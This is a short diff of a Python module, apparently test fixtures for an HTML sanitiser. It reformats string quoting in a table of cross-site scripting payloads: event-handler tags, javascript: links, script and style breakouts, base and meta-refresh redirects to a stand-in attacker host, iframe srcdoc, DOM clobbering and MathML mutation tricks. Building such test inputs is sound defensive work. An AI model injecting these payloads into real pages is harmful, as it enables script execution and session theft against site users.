@@ -26,7 +26,7 @@ MARKUP: Final[dict[str, str]] = {
     "a drawing that loads": f"<svg/onload={RUN}><animate onbegin={RUN} attributeName=x>",
     "details that open": f"<details open ontoggle={RUN}>summary",
     "a field that takes the focus": f"<input autofocus onfocus={RUN}>",
-    "a link that runs": f"<a href=\"javascript:{RUN}\">Back to live</a>",
+    "a link that runs": f'<a href="javascript:{RUN}">Back to live</a>',
     "the end of a script element": f"</script><script>{RUN}</script>",
     "the end of the title": f"</title><script>{RUN}</script>",
     "the end of a style": f"</style><style>@import '//{EVIL}/x.css'</style>",
@@ -42,7 +42,7 @@ MARKUP: Final[dict[str, str]] = {
     "MathML": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
     "a base": f"<base href=//{EVIL}/>",
     "a refresh": f'<meta http-equiv=refresh content="0;url=//{EVIL}/r">',
-    "a frame": f"<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
+    "a frame": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
     "a form": f"<form action=//{EVIL}/f><button formaction=javascript:{RUN}>Halt it</button>",
     "clobbering": "<a id=motion name=moot></a><form id=transcript><input name=textContent>",
     "an address without a scheme": f"//{EVIL}/x https://{EVIL}/y mailto:a@{EVIL}",
@@ -112,7 +112,7 @@ QUOTED: Final = frozenset({"quote", "fails", "exposed_by"})
 def script(texts: dict[str, str]) -> dict[str, Any]:
     """The exhibition of the juries with other words: its answers keep their form and lose their sense."""
     content = json.loads(shipped()["juries"].read_bytes())
-    words, quotes = dealt(texts.values(), 100), dealt([text for text in texts.values() if len(text) < 150], 100)   # noqa: PLR2004
+    words, quotes = dealt(texts.values(), 100), dealt([text for text in texts.values() if len(text) < 150], 100)
     spoken = " \n".join(texts.values())
 
     def changed(value: Any, key: str = "") -> Any:
